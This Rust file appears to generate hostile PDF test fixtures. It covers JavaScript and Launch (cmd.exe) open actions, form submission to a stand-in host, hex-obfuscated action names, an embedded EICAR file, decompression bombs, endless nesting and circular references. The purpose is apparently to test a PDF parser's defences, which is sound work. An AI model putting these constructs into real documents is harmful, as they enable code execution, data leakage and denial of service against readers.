//! PDFs that act, hide, unfold without end, or never come to an end.

use lopdf::{Dictionary, Document, Object, ObjectId, SaveOptions, Stream, dictionary};

use super::{Hostile, strangers::eicar};

fn document(change: impl FnOnce(&mut Document, ObjectId, ObjectId)) -> Document {
    let mut document = Document::with_version("1.7");
    let tree = document.new_object_id();
    let content = document.add_object(Stream::new(dictionary! {}, b"BT ET".to_vec()));
    let page = document.add_object(dictionary! {
        "Type" => "Page", "Parent" => tree, "Contents" => content,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
    });
    document
        .objects
        .insert(tree, dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 }.into());
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => tree });
    document.trailer.set("Root", catalog);
    change(&mut document, catalog, page);
    document
}

fn plain(mut document: Document) -> Vec<u8> {
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).unwrap();
    bytes
}

fn squeezed(mut document: Document) -> Vec<u8> {
    let mut bytes = Vec::new();
    let options = SaveOptions::builder().use_object_streams(true).use_xref_streams(true).build();
    document.save_with_options(&mut bytes, options).unwrap();
    bytes
}

pub(crate) fn all() -> Vec<Hostile> {
    [acting(), unfolding(), endless(), torn()].concat()
}

fn script() -> Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }
}

/// Everything that does something, where readers look for it, plain and squeezed.
fn acting() -> Vec<Hostile> {
    let acts: Vec<(&str, &str, Object)> = vec![
        ("opens", "OpenAction", script().into()),
        ("launches", "OpenAction", dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") }.into()),
        ("calls", "OpenAction", dictionary! { "S" => "URI", "URI" => Object::string_literal("https://jahat.example") }.into()),
        ("sends", "OpenAction", dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("https://jahat.example") }.into()),
        ("remote", "OpenAction", dictionary! { "S" => "GoToR", "F" => Object::string_literal("\\\\jahat\\x") }.into()),
        ("also", "AA", dictionary! { "WC" => script() }.into()),
        ("named", "Names", dictionary! { "JavaScript" => dictionary! { "Names" => vec![Object::string_literal("a"), script().into()] } }.into()),
        ("carries", "Names", dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![Object::string_literal("a")] } }.into()),
        ("form", "AcroForm", dictionary! { "XFA" => Object::string_literal("<xdp/>"), "Fields" => Vec::<Object>::new() }.into()),
        ("rich", "Extensions", dictionary! { "X" => dictionary! { "Type" => "RichMedia", "Subtype" => "RichMedia" } }.into()),
    ];
    let mut files = Vec::new();
    for (what, key, value) in &acts {
        let put = |document: &mut Document, at: ObjectId| {
            document.get_dictionary_mut(at).unwrap().set(*key, value.clone());
        };
        files.push((format!("{what}.pdf"), plain(document(|document, catalog, _| put(document, catalog)))));
        files.push((
            format!("{what}-squeezed.pdf"),
            squeezed(document(|document, catalog, _| put(document, catalog))),
        ));
        let on_page = document(|document, _, page| {
            let note = document.add_object(dictionary! { "Type" => "Annot", "Subtype" => "Link", "A" => value.clone(), *key => value.clone() });
            document.get_dictionary_mut(page).unwrap().set("Annots", vec![note.into()]);
        });
        files.push((format!("{what}-on-page.pdf"), plain(on_page)));
        // Unused, but there for a reader that repairs.
        let loose = document(|document, _, _| {
            document.add_object(dictionary! { *key => value.clone() });
        });
        files.push((format!("{what}-loose.pdf"), plain(loose)));
    }
    // Names written so that a search does not find them.
    for name in ["#4aavaScript", "Java#53cript", "#4A#61#76#61#53#63#72#69#70#74"] {
        let text = format!(
            "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/{name}/JS(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
        );
        files.push((format!("hidden-{}.pdf", name.replace('#', "")), text.into_bytes()));
    }
    let locked = document(|document, _, _| {
        document.trailer.set("Encrypt", dictionary! { "Filter" => "Standard", "V" => 2, "R" => 3 });
    });
    files.push(("locked.pdf".into(), plain(locked)));
    let virus = document(|document, _, page| {
        let attached = document.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, eicar()));
        document.get_dictionary_mut(page).unwrap().set("AF", attached);
    });
    files.push(("virus-attached.pdf".into(), plain(virus)));
    files
}

/// Little that becomes much.
fn unfolding() -> Vec<Hostile> {
    let mut files = Vec::new();
    for megabytes in [8, 64, 200] {
        let bomb = document(|document, _, page| {
            let mut stream = Stream::new(dictionary! {}, vec![b' '; megabytes << 20]);
            stream.compress().unwrap();
            let stream = document.add_object(stream);
            document.get_dictionary_mut(page).unwrap().set("Contents", stream);
        });
        files.push((format!("bomb-{megabytes}.pdf"), plain(bomb)));
    }
    // Squeezed twice.
    let twice = document(|document, _, page| {
        let mut inner = Stream::new(dictionary! {}, vec![b'0'; 100 << 20]);
        inner.compress().unwrap();
        let mut outer = Stream::new(dictionary! {}, inner.content);
        outer.compress().unwrap();
        outer.dict.set("Filter", vec!["FlateDecode".into(), "FlateDecode".into()]);
        let stream = document.add_object(outer);
        document.get_dictionary_mut(page).unwrap().set("Contents", stream);
    });
    files.push(("bomb-twice.pdf".into(), plain(twice)));
    // A stream of objects that is one.
    for count in [1_000, 50_000] {
        let pairs: Vec<String> = (0..count).map(|at| format!("{} {} ", at + 10, at * 2)).collect();
        let head = pairs.concat();
        let body = [head.as_bytes(), "1 ".repeat(count).as_bytes(), &vec![b' '; 30 << 20]].concat();
        let objects = document(|document, _, _| {
            let mut stream = Stream::new(
                dictionary! { "Type" => "ObjStm", "N" => i64::try_from(count).unwrap(), "First" => i64::try_from(head.len()).unwrap() },
                body,
            );
            stream.compress().unwrap();
            document.add_object(stream);
        });
        files.push((format!("objects-{count}.pdf"), plain(objects)));
    }
    let many = document(|document, _, _| {
        for at in 0..60_000_i64 {
            document.add_object(at);
        }
    });
    files.push(("many.pdf".into(), plain(many)));
    files
}

/// What goes deep or in circles.
fn endless() -> Vec<Hostile> {
    let mut files = Vec::new();
    let body = |catalog: &str| {
        format!("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X {catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n").into_bytes()
    };
    let closed = |mut bytes: Vec<u8>| {
        let at: Vec<usize> = (1..=3)
            .map(|number| {
                let word = format!("{number} 0 obj");
                bytes.windows(word.len()).position(|part| part == word.as_bytes()).unwrap()
            })
            .collect();
        let table = bytes.len();
        bytes.extend(b"xref\n0 4\n0000000000 65535 f \n");
        for at in at {
            bytes.extend(format!("{at:010} 00000 n \n").into_bytes());
        }
        bytes.extend(format!("trailer<</Size 4/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n").into_bytes());
        bytes
    };
    for depth in [50, 1_000, 100_000, 1_000_000] {
        for (what, open, close) in
            [("arrays", "[", "]"), ("dictionaries", "<</A ", ">>"), ("open", "[", ""), ("words", "(", ")")]
        {
            let nested = [open.repeat(depth), "0".to_owned(), close.repeat(depth)].concat();
            files.push((format!("{what}-{depth}.pdf"), closed(body(&nested))));
        }
    }
    let circle = document(|document, catalog, _| {
        let tree = document.get_dictionary(catalog).unwrap().get(b"Pages").unwrap().clone();
        let id = tree.as_reference().unwrap();
        document.get_dictionary_mut(id).unwrap().set("Kids", vec![tree.clone(), tree]);
    });
    files.push(("circle.pdf".into(), plain(circle)));
    let itself = document(|document, _, page| {
        let id = document.new_object_id();
        document.objects.insert(id, Object::Reference(id));
        document.get_dictionary_mut(page).unwrap().set("Contents", id);
    });
    files.push(("itself.pdf".into(), plain(itself)));
    let good = plain(document(|_, _, _| {}));
    let text = String::from_utf8_lossy(&good).into_owned();
    let at = text.rfind("startxref").unwrap();
    for place in ["0", "9999999999", "-1", "17", "99999999999999999999"] {
        files.push((
            format!("table-at-{place}.pdf"),
            [&good[..at], b"startxref\n", place.as_bytes(), b"\n%%EOF"].concat(),
        ));
    }
    let before = text.replace("trailer\n<<", "trailer\n<</Prev 9 ");
    files.push(("table-before.pdf".into(), before.into_bytes()));
    files
}

fn torn() -> Vec<Hostile> {
    let good = plain(document(|_, _, _| {}));
    let mut files: Vec<Hostile> = [5, 20, 50, 80, 95]
        .map(|share| (format!("torn-{share}.pdf"), good[..good.len() * share / 100].to_vec()))
        .into();
    files.push(("two.pdf".into(), good.repeat(2)));
    files.push(("padded.pdf".into(), [b"<script>alert(1)</script>".repeat(20).as_slice(), &good].concat()));
    files.push(("html-behind.pdf".into(), [good.as_slice(), b"<script>alert(1)</script>"].concat()));
    files
}
